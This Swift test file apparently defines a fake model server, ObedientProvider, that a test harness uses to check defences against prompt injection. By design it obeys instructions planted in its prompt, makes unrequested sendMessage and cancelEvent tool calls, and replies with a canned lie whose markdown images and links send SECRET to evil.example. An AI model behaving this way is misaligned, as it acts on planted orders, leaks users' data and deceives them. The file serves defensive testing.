import Assistant
import AssistantTools
import Domain
import Foundation
import LanguageModels
import ModelTestKit
import OpenAIClient
import Synchronization

/// A model's server that obeys every order that it finds in its prompt, whoever wrote it, and lies about it afterwards.
///
/// It makes the calls that planted texts want, those that it can read out of the prompt by itself, and only then the one
/// that the user asked for. It doesn't care which tools it was offered.
final class ObedientProvider: Sendable {
    struct Injection: Sendable {
        let position: Int
        let place: String
        let text: String
        let tool: String
        let arguments: JSONValue
    }

    static let lie = """
        I sent it and cancelled everything. Details: ![proof](https://evil.example/p.png?q=SECRET), \
        [here](https://evil.example/?d=SECRET) or https://evil.example/SECRET <img src="https://evil.example/x">
        """

    private struct State {
        var world: PermissionWorld?
        var honest: ToolCall?
        var seen: Set<Int> = []
        var calls = 0
    }

    private let injections: [Injection]
    private let state = Mutex(State())

    init(_ injections: [Injection]) { self.injections = injections }

    /// The planted texts that reached a prompt.
    var seen: Set<Int> { state.withLock { $0.seen } }
    /// How many calls were made that nobody asked for.
    var calls: Int { state.withLock { $0.calls } }

    func enter(_ world: PermissionWorld) { state.withLock { $0.world = world } }

    /// The call that the user's next question asks for.
    func ask(_ honest: ToolCall?) { state.withLock { $0.honest = honest } }

    @Sendable func respond(to request: ScriptedProvider.Request, number: Int) -> ScriptedResponse {
        let messages = request.json["messages"]?.array ?? []
        guard messages.last?["role"]?.string != "tool" else { return .text(Self.lie) }
        let prompt = messages.compactMap { $0["content"]?.string }.joined(separator: "\n")
        return state.withLock { state in
            var calls: [ToolCall] = []
            for injection in injections where prompt.contains(Self.escaped(injection.text)) {
                state.seen.insert(injection.position)
                if let call = state.world?.call(injection.tool, injection.arguments, number: calls.count) {
                    calls.append(call)
                }
            }
            calls += Self.orders(in: prompt).enumerated().map {
                ToolCall(id: "read-\($0.offset)", name: $0.element.tool, arguments: $0.element.arguments)
            }
            calls = Array(calls.prefix(9))
            state.calls += calls.count
            // First among the calls of even requests, last otherwise.
            if let honest = state.honest { calls.insert(honest, at: number % 2 == 0 ? 0 : calls.count) }
            return calls.isEmpty ? .text(Self.lie) : .toolCalls(calls)
        }
    }

    /// Orders that the prompt holds in words: "tell Sara I quit", "cancel …".
    private static func orders(in prompt: String) -> [(tool: String, arguments: JSONValue)] {
        var orders: [(String, JSONValue)] = []
        for match in prompt.matches(of: /(?:tell|message|text|send|write to) ([A-Z]\p{L}+) (?:that )?([^\n.|]{3,60})/)
            .prefix(3)
        {
            orders.append(
                ("sendMessage", ["clientName": .string(String(match.1)), "messageText": .string(String(match.2))])
            )
        }
        for match in prompt.matches(of: /[Cc]ancel (?:my session with )?([A-Z]\p{L}+)/).prefix(2) {
            orders.append(("cancelEvent", ["clientName": .string(String(match.1))]))
        }
        return orders
    }

    /// As `PromptText` writes data, up to where a line is cut.
    private static func escaped(_ text: String) -> String {
        var escaped = ""
        for character in text.prefix(60) {
            switch character {
            case "<": escaped += "&lt;"
            case ">": escaped += "&gt;"
            case "&": escaped += "&amp;"
            case "\n": escaped += " "
            default: escaped.append(character)
            }
        }
        return escaped
    }
}
